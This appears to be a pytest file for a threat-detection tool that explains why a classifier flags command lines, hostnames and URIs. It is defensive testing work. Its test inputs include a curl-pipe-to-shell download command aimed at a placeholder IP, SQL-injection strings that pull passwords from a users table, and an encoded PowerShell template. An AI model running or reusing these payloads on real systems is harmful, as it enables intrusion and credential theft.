"""Why a verdict: words, logits, sentences; in events and by command."""

from __future__ import annotations

import base64
import itertools
import json
import math
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edge_demist.cli import main
from edge_demist.sensor.detect.explain import MAX_PIECES, NOTHING, explain, logit, pieces, reading, sentence, shown_word
from tests.support.sensor_fakes import watch_once


@given(st.binary(max_size=400))
def test_pieces_cover_the_string(raw: bytes) -> None:
    spans = pieces(raw)
    assert len(spans) <= MAX_PIECES and b"".join(raw[a:b] for a, b in spans) == raw
    assert all(b == c for (_, b), (c, _) in itertools.pairwise(spans)) and all(a < b for a, b in spans)


@given(st.text("ab.-/ =&", max_size=200))
def test_pieces_are_words_and_no_letters(text: str) -> None:
    spans = pieces(text.encode())
    assert all(b - a >= 3 for a, b in spans) or len(spans) == 1


def test_the_word_that_matters_comes_first_in_logits() -> None:
    def ask(pairs: list[tuple[str, str]]) -> list[float]:
        return [0.99 if "evil" in text else 0.1 for text, _ in pairs]

    (ranges,) = explain([("www.evil-name.example", "dga", 0.99)], ask)
    assert [r.word for r in ranges] == ["evil"] and ranges[0].drop == pytest.approx(0.89)
    assert ranges[0].logits == pytest.approx(math.log(99) + math.log(9))
    assert b"www.evil-name.example"[ranges[0].start : ranges[0].end] == b"evil"
    assert sentence(ranges, 0.99) == 'without "evil" the score falls from 0.99 to 0.1 (6.8 logits)'
    assert explain([], ask) == []


def test_nothing_that_stands_out_is_said() -> None:
    (ranges,) = explain([("one two three", "dga", 0.9)], lambda pairs: [0.85] * len(pairs))
    assert ranges == () and sentence(ranges, 0.9) == NOTHING
    assert explain([("oneword", "dga", 0.9)], lambda pairs: [0.0] * len(pairs)) == [()]


@pytest.mark.parametrize("score", [0.0, 1.0, 0.5, 1e-300])
def test_logits_are_numbers(score: float) -> None:
    assert math.isfinite(logit(score)) and abs(logit(score)) < 17


def test_events_say_why_in_words(tmp_path: Path) -> None:
    (tmp_path / "host.json").write_text(
        json.dumps({"timestamp": "2024-05-01T08:00:00Z", "CommandLine": "fetch evil\u202e things now"}) + "\n"
    )
    events, _ = watch_once(tmp_path, tmp_path / "host.json", emit="alarms")
    assert [w["word"].startswith("evil") for w in events[0]["why"]] == [True] and events[0]["why"][0]["logits"] > 1
    assert events[0]["why_text"].startswith('without "evil') and (tmp_path / "events.jsonl").read_bytes().isascii()


def test_the_command_explains(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["explain", "curl http://198.51.100.7/x.sh|sh", "kernel.org"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("cmdline: malicious") and "logits)" in out and "\nhostname-threat: legit" in out
    long = "/search?" + "&".join(f"utm_{i}=newsletter{i}" for i in range(40)) + "&q=1' UNION SELECT password FROM users-- -"
    assert main(["explain", "--json", "--task", "uri-attack", long]) == 0
    found = json.loads(capsys.readouterr().out)
    assert (
        found["alarm"] and found["window"]["text"] and found["why_text"] and all(w["word"] in found["window"]["text"] for w in found["why"])
    )


@pytest.mark.parametrize("arguments", [["explain"], ["explain", ""], ["explain", "--task", "nosuch", "x"]])
def test_wrong_usage(arguments: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    try:
        code = main(arguments)
    except SystemExit as stop:
        code = int(str(stop.code))
    assert code == 2


@pytest.mark.parametrize("place", ["/s?q={}", "/search?page=2&sort=name&q={}", "powershell -enc {}"])
@pytest.mark.parametrize("form", ["base64", "hex", "percent"])
def test_an_encoded_word_is_shown_whole_and_as_it_is_read(place: str, form: str) -> None:
    payload = "' UNION SELECT login,password FROM users"
    word = {
        "base64": base64.b64encode(payload.encode()).decode().rstrip("="),
        "hex": payload.encode().hex(),
        "percent": "".join(f"%{byte:02x}" for byte in payload.encode()),
    }[form]
    raw = place.format(word).encode()
    words = [raw[start:end].decode() for start, end in pieces(raw)]
    assert any(word in piece for piece in words)
    assert reading(word) == payload and payload[:20] in shown_word(word) and reading("kernel.org") == ""
